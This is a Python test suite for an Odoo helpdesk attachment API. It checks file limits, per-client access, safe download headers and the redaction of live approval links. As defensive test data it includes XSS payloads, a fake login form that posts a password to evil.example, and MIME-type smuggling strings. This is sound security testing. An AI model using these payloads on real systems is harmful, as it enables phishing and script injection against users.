# Copyright 2026 Fusion Helpdesk
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Files employees attach to a ticket or a reply: taken within the limits,
stored on the ticket's public message, listed in the thread and served to
their own client only, as downloads (raw HTTP, the client's own path)."""

import base64
import json
from urllib.parse import quote

from odoo.exceptions import AccessError
from odoo.tests import new_test_user, tagged
from odoo.tests.common import JsonRpcException

from odoo.addons.fusion_helpdesk_central import intake

from .common import ticket_live_token
from .test_intake_api import GOOD_PAYLOAD
from .test_sync_api import SyncApiCase

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 64
LOG = b"2026-12-04 10:00:01 ERROR tray 2 jammed\n"


def attached(name, raw, mimetype):
    return {"name": name, "mimetype": mimetype, "data": base64.b64encode(raw).decode()}


@tagged("post_install", "-at_install")
class TestApiAttachments(SyncApiCase):
    def _attachment_count(self):
        return self.env["ir.attachment"].search_count([("res_model", "=", "helpdesk.ticket")])

    def download(self, ticket, attachment_id, key=None):
        return self._get("/tickets/%d/attachments/%d" % (ticket.id, attachment_id), key=key)

    def thread(self, ticket, key=None):
        return self.assertJsonResponse(self._get("/tickets/%d/messages" % ticket.id, key=key), 200)

    def test_a_ticket_s_files_are_stored_on_its_public_message_and_listed(self):
        files = [attached("screen.png", PNG, "image/png"), attached("odoo.log", LOG, "text/x-log")]
        body = self.assertJsonResponse(
            self._post({**GOOD_PAYLOAD, "client_ref": "files-1", "attachments": files}), 201
        )
        ticket = self.env["helpdesk.ticket"].browse(body["id"])
        message = ticket.message_ids.filtered("attachment_ids")
        self.assertEqual(len(message), 1)
        self.assertFalse(message.is_internal)
        self.assertEqual(message.subtype_id, self.env.ref("mail.mt_comment"))
        self.assertEqual(message.author_id, ticket.partner_id)
        attachments = message.attachment_ids.sorted("id")
        self.assertEqual(attachments.mapped("name"), ["screen.png", "odoo.log"])
        self.assertEqual(attachments.mapped("mimetype"), ["image/png", "text/plain"])
        self.assertEqual(set(attachments.mapped("res_model")), {"helpdesk.ticket"})
        self.assertEqual(set(attachments.mapped("res_id")), {ticket.id})
        self.assertEqual(attachments[0].raw, PNG)

        [listed] = [m for m in self.thread(ticket)["messages"] if m["attachments"]]
        self.assertEqual(
            listed["attachments"],
            [
                {
                    "id": attachments[0].id,
                    "name": "screen.png",
                    "size": len(PNG),
                    "mimetype": "image/png",
                },
                {
                    "id": attachments[1].id,
                    "name": "odoo.log",
                    "size": len(LOG),
                    "mimetype": "text/plain",
                },
            ],
        )
        # The updates feed shapes its messages the same way.
        __, tickets, __ = self.all_updates()
        [entry] = [t for t in tickets if t["id"] == ticket.id]
        self.assertEqual(
            [m["attachments"] for m in entry["messages"] if m["attachments"]],
            [listed["attachments"]],
        )

    def test_a_file_sent_alone_by_the_engineer_reaches_the_client(self):
        # Attacker run 4, F8: a public message with a file and no text (a
        # screenshot sent alone) never reached the client, nor did its file.
        screenshot = self.env["ir.attachment"].create(
            {
                "name": "steps.png",
                "raw": PNG,
                "res_model": "helpdesk.ticket",
                "res_id": self.ticket.id,
            }
        )
        self.ticket.with_user(self.engineer).message_post(
            body="",
            message_type="comment",
            subtype_xmlid="mail.mt_comment",
            attachment_ids=screenshot.ids,
        )
        [listed] = [m for m in self.thread(self.ticket)["messages"] if m["attachments"]]
        self.assertEqual([a["name"] for a in listed["attachments"]], ["steps.png"])
        self.assertEqual(self.download(self.ticket, screenshot.id).content, PNG)

    def test_a_resent_ticket_does_not_duplicate_its_files(self):
        payload = {
            **GOOD_PAYLOAD,
            "client_ref": "files-2",
            "attachments": [attached("screen.png", PNG, "image/png")],
        }
        first = self.assertJsonResponse(self._post(payload), 201)
        count = self._attachment_count()
        again = self.assertJsonResponse(self._post(payload), 201)
        self.assertEqual(again, first)
        self.assertEqual(self._attachment_count(), count)
        # Other files under the same reference are another ticket: refused.
        other = {**payload, "attachments": [attached("other.log", LOG, "text/plain")]}
        self.assertError(self._post(other), 409, "client_ref")
        self.assertEqual(self._attachment_count(), count)

    def test_a_retried_reply_does_not_duplicate_its_files(self):
        files = [attached("odoo.log", LOG, "text/plain")]
        key = "files-retry-0001"
        first = self.assertJsonResponse(
            self.post_reply(self.ticket, idempotency_key=key, attachments=files), 201
        )
        count = self._attachment_count()
        again = self.assertJsonResponse(
            self.post_reply(self.ticket, idempotency_key=key, attachments=files), 201
        )
        self.assertEqual(again, first)
        self.assertEqual(self._attachment_count(), count)
        message = self.env["mail.message"].browse(first["id"])
        self.assertEqual(message.attachment_ids.mapped("name"), ["odoo.log"])
        self.assertEqual(message.attachment_ids.res_id, self.ticket.id)

    def test_files_over_the_limits_are_refused_with_413_and_nothing_is_stored(self):
        big = PNG + b"\x00" * intake.ATTACHMENT_MAX_BYTES
        tickets, files = self._ticket_count(), self._attachment_count()
        messages = len(self.ticket.message_ids)
        cases = [
            ("one file too large", [attached("huge.png", big, "image/png")], "huge.png is larger"),
            ("too many files", [attached("a.png", PNG, "image/png")] * 6, "at most 5 files"),
        ]
        for label, payload_files, words in cases:
            with self.subTest(label, route="intake"):
                message = self.assertError(
                    self._post({**GOOD_PAYLOAD, "client_ref": "big", "attachments": payload_files}),
                    413,
                    "attachments",
                )
                self.assertIn(words, message)
            with self.subTest(label, route="reply"):
                message = self.assertError(
                    self.post_reply(self.ticket, attachments=payload_files), 413, "attachments"
                )
                self.assertIn(words, message)
        self.assertEqual(self._ticket_count(), tickets)
        self.assertEqual(self._attachment_count(), files)
        self.assertEqual(len(self.ticket.message_ids), messages)

    def test_a_body_over_the_limit_with_files_is_refused_with_413(self):
        """The room for files is a client's only: the same large body with a
        bad key is refused as a bad key before it is read (401, counted: never
        a quicker 413 that would tell a bad key from a good one; without any
        key it is 413, see TestIntakeApi), with a key once over the larger limit."""
        big = {
            **GOOD_PAYLOAD,
            "attachments": [attached("a.png", PNG + b"\x00" * 600000, "image/png")],
        }
        self.assertError(self._post(big, key="not-a-key"), 401)
        self.assertJsonResponse(self._post(big), 201)
        pad = "x" * (intake.MAX_BODY_BYTES_WITH_ATTACHMENTS + 1)
        self.assertError(self._post(raw=json.dumps({**GOOD_PAYLOAD, "pad": pad})), 413)

    def test_html_svg_and_disguised_files_are_refused_with_415(self):
        tickets, files = self._ticket_count(), self._attachment_count()
        cases = [
            ("html", attached("page.html", b"<html><script>alert(1)</script>", "text/html")),
            ("svg", attached("logo.svg", b'<svg onload="alert(1)"/>', "image/svg+xml")),
            (
                "html declared as text",
                attached("notes.txt", b"<script>alert(1)</script>", "text/plain"),
            ),
            ("svg declared as png", attached("logo.png", b'<svg onload="alert(1)"/>', "image/png")),
            ("executable", attached("tool.exe", b"MZ\x90\x00", "application/octet-stream")),
        ]
        for label, file in cases:
            with self.subTest(label, route="intake"):
                message = self.assertError(
                    self._post({**GOOD_PAYLOAD, "client_ref": "bad", "attachments": [file]}),
                    415,
                    "attachments",
                )
                self.assertIn("only images (PNG, JPEG, GIF, WebP), PDF and text files", message)
            with self.subTest(label, route="reply"):
                self.assertError(
                    self.post_reply(self.ticket, attachments=[file]), 415, "attachments"
                )
        self.assertEqual(self._ticket_count(), tickets)
        self.assertEqual(self._attachment_count(), files)

    def test_a_client_downloads_its_public_files_as_attachments(self):
        reply = self.assertJsonResponse(
            self.post_reply(self.ticket, attachments=[attached("odoo.log", LOG, "text/plain")]), 201
        )
        attachment = self.env["mail.message"].browse(reply["id"]).attachment_ids
        response = self.download(self.ticket, attachment.id)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.content, LOG)
        self.assertEqual(response.headers["Content-Type"], "text/plain")
        self.assertEqual(
            response.headers["Content-Disposition"], "attachment; filename*=UTF-8''odoo.log"
        )
        self.assertEqual(response.headers["X-Content-Type-Options"], "nosniff")
        self.assertEqual(response.headers["Cache-Control"], "no-store")
        self.assertIn("sandbox", response.headers["Content-Security-Policy"])

    def test_a_file_of_another_type_is_listed_and_served_as_bytes_to_save(self):
        """A page the engineer attached on central is no page for the client."""
        message = self.comment(self.ticket, "The export.", attachments=[("export.html", b"<html>")])
        attachment = message.attachment_ids
        [listed] = [m for m in self.thread(self.ticket)["messages"] if m["id"] == message.id]
        self.assertEqual(listed["attachments"][0]["mimetype"], "application/octet-stream")
        response = self.download(self.ticket, attachment.id)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.headers["Content-Type"], "application/octet-stream")
        self.assertEqual(response.headers["X-Content-Type-Options"], "nosniff")

    def test_another_clients_key_gets_404_for_the_file(self):
        reply = self.assertJsonResponse(
            self.post_reply(self.ticket, attachments=[attached("screen.png", PNG, "image/png")]),
            201,
        )
        attachment = self.env["mail.message"].browse(reply["id"]).attachment_ids
        # Through its own ticket's URL, or the right ticket's: the same 404.
        for ticket in (self.ticket, self.other_ticket):
            with self.subTest(ticket=ticket.name):
                response = self.download(ticket, attachment.id, key=self.other_key_value)
                self.assertError(response, 404)
                self.assertNotIn(PNG, response.content)
        self.assertError(self.download(self.ticket, attachment.id, key="nope"), 401)

    def test_an_internal_notes_file_or_another_tickets_file_is_404(self):
        note_file = self.env["ir.attachment"].create(
            {
                "name": "internal.log",
                "raw": LOG,
                "res_model": "helpdesk.ticket",
                "res_id": self.ticket.id,
            }
        )
        self.ticket.message_post(
            body="Internal: the customer's password is in this log.",
            message_type="comment",
            subtype_xmlid="mail.mt_note",
            attachment_ids=note_file.ids,
        )
        # A file on the ticket itself, in no message at all.
        loose = self.env["ir.attachment"].create(
            {
                "name": "loose.log",
                "raw": LOG,
                "res_model": "helpdesk.ticket",
                "res_id": self.ticket.id,
            }
        )
        # A public message of another ticket of the same client.
        second = self._create_ticket("Second printer")
        elsewhere = self.assertJsonResponse(
            self.post_reply(second, attachments=[attached("b.log", LOG, "text/plain")]), 201
        )
        elsewhere_file = self.env["mail.message"].browse(elsewhere["id"]).attachment_ids
        # A public message of this ticket carrying another client's file.
        other_file = self.env["ir.attachment"].create(
            {
                "name": "globex.log",
                "raw": LOG,
                "res_model": "helpdesk.ticket",
                "res_id": self.other_ticket.id,
            }
        )
        self.comment(self.ticket, "Forwarded.", attachment_ids=other_file.ids)
        for label, attachment_id in (
            ("another client's file on a public message", other_file.id),
            ("internal note", note_file.id),
            ("on no message", loose.id),
            ("another ticket's", elsewhere_file.id),
            ("unknown", 2**31 - 1),
        ):
            with self.subTest(label):
                self.assertError(self.download(self.ticket, attachment_id), 404)
        listed = [a for m in self.thread(self.ticket)["messages"] for a in m["attachments"]]
        self.assertEqual(listed, [])

    def _thread_files(self, ticket):
        """Ids of the files the logged-in user gets with the ticket's chatter."""
        try:
            answer = self.make_jsonrpc_request(
                "/mail/thread/messages",
                {"thread_model": "helpdesk.ticket", "thread_id": ticket.id},
            )
        except JsonRpcException:
            return set()
        return {attachment["id"] for attachment in answer["data"].get("ir.attachment", [])}

    def test_portal_users_read_only_their_own_tickets_files(self):
        """A file's access follows its ticket: the requester (portal) gets it with
        her ticket's thread; a colleague of the same client and another
        customer get it through no path (thread, ORM, /web/content)."""
        company = self.client_key._intake_company_partner()
        other_company = self.env["res.partner"].create(
            {"name": "Other Customer", "is_company": True}
        )
        portal = {}
        for login, parent in (
            ("fh-att-jane", company),
            ("fh-att-bob", company),
            ("fh-att-mal", other_company),
        ):
            user = new_test_user(
                self.env, login=login, email="%s@example.com" % login, groups="base.group_portal"
            )
            user.partner_id.parent_id = parent
            portal[login] = user
        self.ticket.partner_id = portal["fh-att-jane"].partner_id
        reply = self.assertJsonResponse(
            self.post_reply(self.ticket, attachments=[attached("odoo.log", LOG, "text/plain")]), 201
        )
        attachment = self.env["mail.message"].browse(reply["id"]).attachment_ids
        self.authenticate("fh-att-jane", "fh-att-jane")
        self.assertIn(attachment.id, self._thread_files(self.ticket))
        for login in ("fh-att-bob", "fh-att-mal"):
            with self.subTest(login):
                with self.assertRaises(AccessError):
                    attachment.with_user(portal[login]).read(["raw"])
                self.authenticate(login, login)
                self.assertNotIn(attachment.id, self._thread_files(self.ticket))
                response = self.url_open("/web/content/%d?download=true" % attachment.id)
                self.assertEqual(response.status_code, 404)
                self.assertNotIn(LOG, response.content)


@tagged("post_install", "-at_install")
class TestApiLinksRedacted(SyncApiCase):
    """Attacker run 4, F1: a live decision link pasted by a client's employee
    (a saved approval email attached as a log, a link in a new ticket) must
    never be stored where whoever reads the ticket on central could take it."""

    def live_link(self):
        wizard = (
            self.env["fusion.helpdesk.engagement.wizard"]
            .with_user(self.engineer)
            .with_context(active_model="helpdesk.ticket", active_ids=self.ticket.ids)
            .create({"findings": "Fuser worn.", "summary": "Replace the fuser."})
        )
        wizard.action_send()
        token = ticket_live_token(self.ticket)
        self.assertTrue(token)
        return token, "%s/fusion_helpdesk/engagement/%s/approve" % (
            self.ticket.get_base_url(),
            token,
        )

    def assertDecidesNothing(self, token):
        self.assertEqual(self.ticket.sudo().engagement_state, "pending")
        response = self.url_open(
            "/fusion_helpdesk/engagement/%s/approve" % token, allow_redirects=False
        )
        self.assertEqual(response.status_code, 200, "the owner's link still works")

    def test_a_saved_approval_email_attached_to_a_reply_stores_no_link(self):
        token, link = self.live_link()
        saved = ("Approve: %s\nReject: %s\n" % (link, link.replace("approve", "reject"))).encode()
        body = self.assertJsonResponse(
            self.post_reply(
                self.ticket,
                idempotency_key="links-in-a-file-0001",
                attachments=[attached("approval.txt", saved, "text/plain")],
            ),
            201,
        )
        [stored] = self.env["mail.message"].browse(body["id"]).attachment_ids
        self.assertNotIn(token.encode(), stored.raw)
        self.assertIn(b"[link removed]", stored.raw)
        # The client reads the file back cleaned, too.
        response = self._get("/tickets/%d/attachments/%d" % (self.ticket.id, stored.id))
        self.assertNotIn(token.encode(), response.content)
        self.assertDecidesNothing(token)

    def test_a_new_tickets_title_description_requester_and_files_store_no_link(self):
        token, link = self.live_link()
        payload = {
            **GOOD_PAYLOAD,
            "client_ref": "links-in-a-ticket",
            "subject": "See %s" % link,
            "description": "The owner said:\n%s" % link,
            # The names rule folds the scheme's colon: the route and token stay.
            "requester_name": "Jane /fusion_helpdesk/engagement/%s/all" % token,
            "attachments": [attached("owner.log", link.encode(), "text/plain")],
        }
        created = self.assertJsonResponse(self._post(payload), 201)
        ticket = self.env["helpdesk.ticket"].browse(created["id"])
        stored = [ticket.name, str(ticket.description), ticket.partner_name, ticket.partner_id.name]
        stored += [a.raw.decode() for a in ticket.message_ids.attachment_ids]
        self.assertTrue(all(token not in value for value in stored), stored)
        self.assertIn("[link removed]", ticket.description)
        self.assertDecidesNothing(token)

    def test_a_text_file_is_never_served_as_a_page_of_this_domain(self):
        # Attacker run 4, F2: a log with a page after its first line, asked
        # for as text/html through Odoo's /web/content, was a page of central
        # (a fake login form) for whoever opened the link.
        page = b"2026-12-04 ERROR\n<html><form action='https://evil.example'><input name=pw></form>"
        body = self.assertJsonResponse(
            self.post_reply(
                self.ticket,
                idempotency_key="page-in-a-log-0001",
                attachments=[attached("odoo.log", page, "text/plain")],
            ),
            201,
        )
        [stored] = self.env["mail.message"].browse(body["id"]).attachment_ids
        self.authenticate(self.engineer.login, self.engineer.login)
        for mimetype in (
            "text/html",
            "image/svg+xml",
            "TEXT/HTML; charset=utf-8",
            # Attacker run 5: browsers read the last of a list of types.
            "x/x,text/html",
            "text/plain,text/html",
            "application/rss+xml",
            "text/html\x00",
        ):
            with self.subTest(mimetype=mimetype):
                response = self.url_open(
                    "/web/content/%d?mimetype=%s" % (stored.id, quote(mimetype))
                )
                self.assertEqual(response.status_code, 200)
                self.assertEqual(response.headers["Content-Type"].split(";")[0], "text/plain")
        # Other routes to the same file read the same rule.
        for path in ("/web/content/ir.attachment/%d/raw", "/web/content/ir.attachment/%d/datas"):
            response = self.url_open((path % stored.id) + "?mimetype=x/x,text/html")
            self.assertEqual(response.headers["Content-Type"].split(";")[0], "text/plain")
        # A harmless type asked for is still honoured (Odoo's own use).
        response = self.url_open("/web/content/%d?mimetype=application/octet-stream" % stored.id)
        self.assertEqual(response.headers["Content-Type"], "application/octet-stream")

    def test_links_spelt_or_cut_otherwise_are_found_by_their_token(self):
        # Attacker run 5: a link cut before its token by a quoted line break
        # (the text becomes HTML, <br> between route and token), a path spelt
        # with /./ or //, a link in a file name: the live token is found by
        # its digest, wherever it stands.
        token, __ = self.live_link()
        base = self.ticket.get_base_url()
        wrapped = "> %s/fusion_helpdesk/engagement/\n> %s/approve" % (base, token)
        payload = {
            **GOOD_PAYLOAD,
            "client_ref": "links-spelt-otherwise",
            "description": "Quoted:\n%s\n%s/./fusion_helpdesk//engagement/%s/all"
            % (
                wrapped,
                base,
                token,
            ),
            "attachments": [
                attached(
                    "https%%3A%%2F%%2Fc%%2Fengagement%%2F%s.txt" % token, b"log\n", "text/plain"
                )
            ],
        }
        created = self.assertJsonResponse(self._post(payload), 201)
        ticket = self.env["helpdesk.ticket"].browse(created["id"])
        self.assertNotIn(token, str(ticket.description))
        self.assertNotIn(token, ticket.message_ids.attachment_ids.name)
        reply = self.assertJsonResponse(
            self.post_reply(self.ticket, idempotency_key="wrapped-link-0001", body=wrapped), 201
        )
        self.assertNotIn(token, str(self.env["mail.message"].browse(reply["id"]).body))
        self.assertDecidesNothing(token)

    def test_a_file_uploaded_to_a_ticket_and_never_posted_stores_no_link(self):
        # Attacker run 5: an upload onto the ticket (chatter, portal) that is
        # never posted was stored as sent.
        token, link = self.live_link()
        upload = (
            self.env["ir.attachment"]
            .with_user(self.engineer)
            .create(
                {
                    "name": "owner-said-%s.txt" % token,
                    "raw": ("see %s\n" % link).encode(),
                    "res_model": "helpdesk.ticket",
                    "res_id": self.ticket.id,
                }
            )
        )
        self.assertNotIn(token.encode(), upload.sudo().raw)
        self.assertNotIn(token, upload.sudo().name)
        # A file of another record is none of ours.
        other = self.env["ir.attachment"].create(
            {"name": "x.txt", "raw": link.encode(), "res_model": "res.partner", "res_id": 1}
        )
        self.assertIn(token.encode(), other.raw)
        # Moved onto the ticket (as a post moves a pending upload): redacted then.
        other.write({"res_model": "helpdesk.ticket", "res_id": self.ticket.id})
        self.assertNotIn(token.encode(), other.raw)
        self.assertDecidesNothing(token)
